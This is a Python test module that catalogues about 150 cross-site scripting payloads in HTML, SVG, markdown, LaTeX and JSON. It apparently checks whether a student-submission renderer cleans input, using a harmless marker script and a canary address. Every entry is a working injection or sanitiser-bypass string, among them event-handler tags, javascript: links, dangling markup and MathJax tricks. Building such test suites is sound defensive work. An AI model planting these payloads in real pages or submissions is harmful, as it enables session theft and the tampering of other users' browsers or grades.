"""Texts by a student that make another person's browser act, and texts that may be shown.

`@JS` is replaced by a line of script, and `@URL` by an address that no browser should load. The
script and the address contain a number that identifies the text and the place. `@@` is that number.
"""

# ruff: noqa: E501  a payload is one line

from __future__ import annotations

import base64
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True)
class Payload:
    """One idea; `is_seen_raw` says whether the idea acts on a page that is not cleaned."""

    name: str
    kind: str
    text: str
    is_seen_raw: bool = True

    def armed(self, number: int, canary: str) -> str:
        """Return the text with its script and its address filled in."""
        script, url = f"pwned={number}", f"{canary}/{number}"
        text = self.text.replace("@JS64", base64.b64encode(script.encode()).decode())
        text = text.replace("@JSURL", quote(script, safe=""))
        text = text.replace("@JSREF", "".join(f"&#{ord(letter)};" for letter in script))
        return text.replace("@JS", script).replace("@URL", url).replace("@@", str(number))


_GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

_HTML = {
    "script": "<script>@JS</script>",
    "script in capitals": "<SCRIPT>@JS</SCRIPT>",
    "script with a blank": "<script >@JS</script >",
    "script with a stroke": "<script/x>@JS</script>",
    "script from elsewhere": "<script src='@URL'></script>",
    "script without an end": "<script src=@URL>",
    "module": "<script type=module>@JS</script>",
    "module from elsewhere": "<script type=module src=@URL></script>",
    "script within a script": "<scr<script>ipt>@JS</scr</script>ipt>",
    "image that fails": "<img src=x: onerror=@JS>",
    "image without blanks": "<img/src/onerror=@JS>",
    "image in quotes": "<img src='x:' onerror='@JS'>",
    "image over lines": "<img\nsrc=x:\nonerror=@JS\n>",
    "image with a null": "<im\x00g src=x: onerror=@JS>",
    "image with a terminal code": "<im\x1b[0mg src=x: onerror=@JS>",
    "image with a grave accent": "<img src=`x:` onerror=@JS>",
    "image that loads": f"<img src={_GIF} onload=@JS onerror=@JS>",
    "image from elsewhere": "<img src=@URL>",
    "images by width": "<img srcset='@URL 1x'>",
    "picture": "<picture><source srcset=@URL><img src=x:></picture>",
    "image after a comment": "<!--><img src=x: onerror=@JS>-->",
    "image in a comment": "<!-- --!><img src=x: onerror=@JS> -->",
    "image in a title": "<noscript><p title='</noscript><img src=x: onerror=@JS>'></noscript>",
    "image in a style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=@JS&gt;'>",
    "image in raw text": "<textarea><img title='</textarea><img src=x: onerror=@JS>'></textarea>",
    "image in a template": "<select><template shadowrootmode=open><img src=x: onerror=@JS></template></select>",
    "shadow root": "<div><template shadowrootmode=open><img src=x: onerror=@JS></template></div>",
    "end of a text area": "</textarea><img src=x: onerror=@JS>",
    "end of a script": "</script><img src=x: onerror=@JS>",
    "end of code": "</pre></code></div></div><img src=x: onerror=@JS>",
    "end of an attribute": "\"><img src=x: onerror=@JS>",
    "end of a quoted attribute": "' onerror=@JS '><img src=x: onerror=@JS>",
    "image as entities": "&lt;img src=x: onerror=@JS&gt;",
    "frame": "<iframe src=\"javascript:top.@JS\"></iframe>",
    "frame with a page": "<iframe srcdoc='<script>top.@JS</script>'></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>@JS</script>'></iframe>",
    "frame from elsewhere": "<iframe src=@URL></iframe>",
    "object": "<object data=@URL></object>",
    "object of data": "<object data='data:text/html,<script>@JS</script>'></object>",
    "embedded": "<embed src=@URL>",
    "embedded script": "<embed src='javascript:@JS'>",
    "base": "<base href='@URL/'><img src=x.png>",
    "refresh": "<meta http-equiv=refresh content='0;url=@URL'>",
    "refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>@JS</script>'>",
    "style sheet": "<link rel=stylesheet href=@URL>",
    "preload": "<link rel=preload as=image href=@URL>",
    "prefetch": "<link rel=prefetch href=@URL>",
    "preconnect": "<link rel=preconnect href=@URL>",
    "icon": "<link rel=icon href=@URL>",
    "import of a style": "<style>@import '@URL';</style>",
    "background by a style": "<style>body { background: url(@URL) }</style>",
    "font by a style": "<style>@font-face { font-family: f; src: url(@URL) } * { font-family: f }</style>",
    "background": "<div style='background:url(@URL)'>x</div>",
    "background with escapes": "<div style='background:\\75rl(@URL)'>x</div>",
    "old background": "<table background=@URL><tr><td background=@URL>x</td></tr></table>",
    "body": "<body onload=@JS onpageshow=@JS>",
    "focus": "<input autofocus onfocus=@JS>",
    "focus by keys": "<p tabindex=1 onfocus=@JS>x</p>",
    "pointer": "<p onmouseover=@JS onpointerenter=@JS>x</p>",
    "click": "<p onclick=@JS>x</p>",
    "toggle": "<details open ontoggle=@JS>x</details>",
    "animation": "<style>@keyframes k {}</style><p style='animation-name:k' onanimationstart=@JS>x</p>",
    "transition": "<p tabindex=1 style='transition:outline 1s' ontransitionend=@JS onfocus=@JS>x</p>",
    "marquee": "<marquee onstart=@JS>x</marquee>",
    "video": "<video><source onerror=@JS></video>",
    "video from elsewhere": "<video src=@URL poster=@URL autoplay></video>",
    "audio": "<audio src=x: onerror=@JS></audio>",
    "track": "<video src=@URL controls><track default src=@URL></video>",
    "form": "<form action=@URL><input name=x><button>Full credit</button></form>",
    "form of a button": "<form id=f@@></form><button form=f@@ formaction='javascript:@JS'>go</button>",
    "input with a picture": "<form action=@URL><input type=image src=@URL></form>",
    "popover": "<button popovertarget=p@@>x</button><p popover id=p@@ onbeforetoggle=@JS>x</p>",
    "portal": "<portal src=@URL onload=@JS></portal><fencedframe src=@URL></fencedframe><img src=x: onerror=@JS>",
    "custom element": "<x-y onclick=@JS tabindex=1 onfocus=@JS autofocus>x</x-y>",
    "ping": "<a href='#' ping=@URL>x</a>",
    "map": "<img usemap=#m@@ src=x:><map name=m@@><area href='javascript:@JS'></map>",
    "dangling markup": "<img src='@URL?",
}  # fmt: skip

_SVG = {
    "svg": "<svg onload=@JS></svg>",
    "svg script": "<svg><script>@JS</script></svg>",
    "svg script from elsewhere": "<svg><script href=@URL></script></svg>",
    "svg script in character data": "<svg><script><![CDATA[@JS]]></script></svg>",
    "svg picture": "<svg><image href=@URL></image></svg>",
    "svg use": "<svg><use href='@URL#x'></use><image xlink:href=@URL></image></svg>",
    "svg html": "<svg><foreignObject><img src=x: onerror=@JS></foreignObject></svg>",
    "svg animation": "<svg><animate onbegin=@JS attributeName=x dur=1s></animate></svg>",
    "svg link that is set": "<svg><a><set attributeName=href to='javascript:@JS'></set><text>x</text></a></svg>",
    "svg link": "<svg><a xlink:href='javascript:@JS'><text>x</text></a></svg>",
    "svg style": "<svg><style>@import '@URL';</style></svg>",
    "svg filter": "<svg><rect width=9 height=9 style='filter:url(@URL#f);fill:url(@URL#g)'></rect></svg>",
    "math link": "<math><a xlink:href='javascript:@JS' href='javascript:@JS'>x</a></math>",
    "math image": "<math><mtext><img src=x: onerror=@JS></mtext></math>",
}  # fmt: skip

_LINKS = {
    "script link": "<a href='javascript:@JS'>x</a>",
    "script link with a tab": "<a href='java\tscript:@JS'>x</a>",
    "script link as entities": "<a href='&#106;avascript:@JSREF'>x</a>",
    "script link in a new tab": "<a target=_blank href='javascript:opener.@JS'>x</a>",
    "data link": "<a href='data:text/html,<script>@JS</script>' target=_blank>x</a>",
    "link elsewhere": "<a href=@URL>x</a>",
    "link that downloads": "<a href='data:text/plain,x' download=pwned@@>x</a>",
    "markdown script link": "[x](javascript:@JS)",
    "markdown link in capitals": "[x](  JaVaScRiPt:@JS )",
    "markdown link as entities": "[x](&#106;avascript:@JSURL)",
    "markdown link in brackets": "[x](<javascript:@JS>)",
    "markdown data link": "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "markdown link elsewhere": "[x](@URL)",
    "markdown picture": "![x](@URL)",
    "markdown picture with a title": "![x](@URL 'y')",
    "markdown reference": "[x@@]\n\n[x@@]: javascript:@JS",
    "markdown reference in a quotation": "> [x@@]: javascript:@JS\n\n[x@@]",
    "markdown reference over lines": "[x@@][]\n\n[x@@]:\njavascript:@JS",
    "markdown picture by reference": "![x@@]\n\n[x@@]: @URL 'title'",
    "markdown angle link": "<@URL>",
    "markdown bare link": "See @URL for points.",
    "markdown link by entities": "&#91;x&#93;&#40;javascript:@JS&#41;",
}

_MARKDOWN = {
    "markdown table": "| a |\n|---|\n| <img src=x: onerror=@JS> |",
    "markdown heading": "# <img src=x: onerror=@JS>",
    "markdown heading of two lines": "<img src=x: onerror=@JS>\n===",
    "markdown list": "- [x] <img src=x: onerror=@JS>",
    "markdown definition": "a\n: <img src=x: onerror=@JS>",
    "markdown quotation": "> <img src=x: onerror=@JS>",
    "markdown code": "`a` <img src=x: onerror=@JS> `b`",
    "markdown open code": "```\nx\n```\n<img src=x: onerror=@JS>",
    "markdown code with a name": "~~~<img/src/onerror=@JS>\nx\n~~~",
    "markdown diagram": "~~~mermaid\n</pre><img src=x: onerror=@JS>\n~~~",
    "markdown block": "<div>\n\n<img src=x: onerror=@JS>\n\n</div>",
    "markdown formula": "$$<img src=x: onerror=@JS>$$ <img src=x: onerror=@JS>",
    "markdown environment": "\\begin{a}x\\end{b}<img src=x: onerror=@JS>\\end{a}",
    "markdown escapes": "\\<img src=x: onerror=@JS> \\\\<img src=x: onerror=@JS>",
}

_LATEX = {
    "latex link": r"$\href{javascript:@JS}{x}$",
    "latex link elsewhere": r"$\href{@URL}{x}$",
    "latex link in a display": r"\begin{align}\href{@URL}{x}\end{align}",
    "latex style": r"$\require{html}\style{background:url(@URL)}{x}$",
    "latex class": r"$\class{score}{x}\cssId{a-proof}{x}\href{@URL}{x}$",
    "latex definition": r"$\def\x{\href}\x{@URL}{x}$",
    "latex new command": r"$\newcommand{\x}[2]{\href{#1}{#2}}\x{@URL}{x}$",
    "latex let": r"$\let\x\href \x{@URL}{x}$",
    "latex by entities": r"&#36;&#92;href{@URL}{x}&#36;",
    "latex by escaped dollars": r"\$\\href{@URL}{x}\$",
    "latex glued to a letter": r"$\href1{x}\hrefé{@URL}{x}\href{@URL}{x}$",
    "latex in brackets": r"\\(\href{@URL}{x}\\)",
    "latex action": r"$\require{action}\texttip{\href{@URL}{x}}{<img src=x: onerror=@JS>}$",
    "latex text": r"$\text{<img src=x: onerror=@JS>}$ <img src=x: onerror=@JS>",
    "latex in a script": "<script type='math/tex'>\\href{javascript:@JS}{x}</script>",
    "latex settings": "<script type='text/x-mathjax-config'>@JS</script>",
}

_JSON = {
    "json script": '{"x": "</script><script>@JS</script>"}',
    "json function": '{"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": "@URL"}, "x": "<img src=x: onerror=@JS>"}',
    "json picture": '{"data": [{"type": "scatter", "text": "<a href=\'javascript:@JS\'>x</a><img src=@URL>"}]}',
    "widget html": '{"version_major": 2, "model_id": "m@@", "value": "<img src=x: onerror=@JS>"}',
    "javascript": "@JS;//<img src=x: onerror=@JS>",
}  # fmt: skip

_UNSEEN = {
    # --- payloads for cleaners that remove, add or rewrite HTML
    # ---------------------------------------
    "script within a script", "image with a null", "image in a style", "image in a template",
    "image as entities", "markdown link by entities",
    # payloads that other browsers run, or that this browser runs later
    "embedded script", "preconnect", "icon", "marquee", "math link", "script link in a new tab",
    "data link", "markdown data link",
    # MathJax runs the payload without its extension `Safe`, which stock pages load
    "latex link", "latex style", "latex let", "latex in a script",
}  # fmt: skip
"""Payloads that do nothing on an uncleaned page, and may act on a cleaned page."""

PAYLOADS = tuple(
    Payload(name, kind, text, name not in _UNSEEN)
    for kind, texts in {
        "HTML": _HTML,
        "SVG": _SVG,
        "links": _LINKS,
        "markdown": _MARKDOWN,
        "LaTeX": _LATEX,
        "JSON": _JSON,
    }.items()
    for name, text in texts.items()
)
